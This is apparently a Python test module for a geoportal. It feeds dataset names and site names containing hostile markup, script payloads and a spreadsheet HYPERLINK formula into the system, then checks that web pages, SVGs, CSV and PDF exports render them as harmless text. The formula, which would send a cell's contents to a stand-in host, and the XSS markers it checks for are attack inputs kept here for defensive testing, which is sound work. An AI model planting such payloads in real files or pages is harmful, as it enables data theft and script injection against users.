"""Hostile names, titles and notes all the way: loaded, published, served, shown, taken away."""

import csv
import html
import io
import urllib.request
from urllib.parse import quote

import geopandas as gpd
import pandas as pd
import pytest
import shapely
from small import HOSTILE

from geoportal.access import Access
from ingest import sources
from ingest.sources.model import DatasetInfo
from tests import warehouse

CODES = ("NG901", "NG902")
MARKUP, SCRIPT = HOSTILE[0], HOSTILE[2]
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"<b>Camp</b>")'
MAP = "/map?dataset=hostile&level=1"


def described(source: str, slug: str):
    info = DatasetInfo(
        slug=slug, title=f"{slug} {MARKUP}", licence_id="CC0-1.0", credit_line=SCRIPT,
        redistributable=True, synthetic=False, caveats=HOSTILE[3], methodology=HOSTILE[4],
    )  # fmt: skip
    return sources.get(source).model_copy(update={"dataset": info})


def written(folder):
    """A file of units, one of figures, one of sites, all with such names.

    Tags are taken out of names when they are loaded; entities become what they stand for, once.
    """
    markup, script, formula = (html.escape(text) for text in (MARKUP, SCRIPT, FORMULA))
    shapes = [shapely.box(at, 9, at + 1, 10) for at in (7, 8)]
    units = gpd.GeoDataFrame({
        "ADM1_PCODE": CODES, "ADM1_EN": [markup, script], "ADM0_PCODE": "NG", "ADM0_EN": "Nigeria",
        "date": "2024-01-01",
    }, geometry=shapes, crs=4326)  # fmt: skip
    units.to_file(folder / "units.gpkg")
    figures = pd.DataFrame({
        "iso3": "NGA", "adm1_pcode": CODES * 2, "round": [1, 1, 2, 2],
        "individuals": [9, 80, 70, 6],
        "reported_on": ["2024-03-31"] * 2 + ["2024-06-30"] * 2,
    })  # fmt: skip
    figures.to_csv(folder / "figures.csv", index=False)
    places = pd.DataFrame({
        "ssid": ["H1", "H2"], "site_name": [formula, markup], "site_type": "camp", "status": "open",
        "longitude": [7.5, 8.5], "latitude": 9.5, "iso3": "NGA", "adm1_pcode": CODES, "round": 1,
        "reported_on": "2024-06-30", "individuals": [30, 40], "pop_group": "idp",
    })  # fmt: skip
    places.to_csv(folder / "sites.csv", index=False)


@pytest.fixture(scope="module")
def server(cluster, var, tmp_path_factory, serve_database):
    folder = tmp_path_factory.mktemp("hostile")
    written(folder)
    with warehouse.empty(cluster, var) as house:
        house.load(described("cod_ab", "hostile-units"), folder / "units.gpkg")
        house.load(described("displacement_table", "hostile"), folder / "figures.csv")
        house.load(described("site_list", "hostile-sites"), folder / "sites.csv")
        house.publish(MARKUP)
        access: Access = house.access
        with serve_database(access) as url:
            yield url


def read(url: str) -> bytes:
    with urllib.request.urlopen(url) as answer:
        return answer.read()


@pytest.mark.parametrize("path", [
    "/", MAP, "/place/NG901", "/site/hostile-sites:H1", "/search?q=img", "/data", "/data/sites",
    "/about",
])  # fmt: skip
def test_pages_show_it_and_do_nothing(server, browser_page, path):
    page = browser_page(server + path)
    page.wait_for_load_state("networkidle")
    if path == MAP:  # legend, labels, table, and the panel that stands for a popup
        page.wait_for_selector("#map[data-drawn]")
        page.locator("#table .row-button").first.click()
        assert MARKUP[:10] in page.locator("#details-body").inner_text()
    assert page.evaluate("document.title").strip()
    assert page.locator("img[src='x'], [onerror], [onload], main b").count() == 0
    assert MARKUP[:10] in page.locator("body").inner_text()


def test_suggestions_show_it(server, browser_page):
    page = browser_page(server + "/")
    page.fill("#search-input", "img")
    page.locator(".search-option", has_text=MARKUP).first.wait_for()
    assert page.locator("img").count() == 0 or "src='x'" not in page.content()


@pytest.mark.parametrize("path", ["/map/picture.svg?dataset=hostile&level=1",
                                  "/data/sites/extent.svg"])  # fmt: skip
def test_pictures_by_themselves_run_nothing(server, browser_page, path):
    page = browser_page(server + path)
    assert page.evaluate("document.querySelectorAll('script, [onload], [onerror]').length") == 0


def test_files_hold_it_as_text(server):
    items = f"{server}/api/collections/sites/items?f=csv&limit=10"
    rows = list(csv.DictReader(io.StringIO(read(items).decode("utf-8-sig"))))[1:]  # tags of HXL
    assert {row["name"] for row in rows} == {f"'{FORMULA}", MARKUP}  # no program computes it
    sheet = read(f"{server}/map.pdf?dataset=hostile&level=1")
    assert sheet.startswith(b"%PDF") and b"/JavaScript" not in sheet and b"/Launch" not in sheet
    sites = read(f"{server}/search.json?q={quote('Camp')}")
    assert b"HYPERLINK" in sites
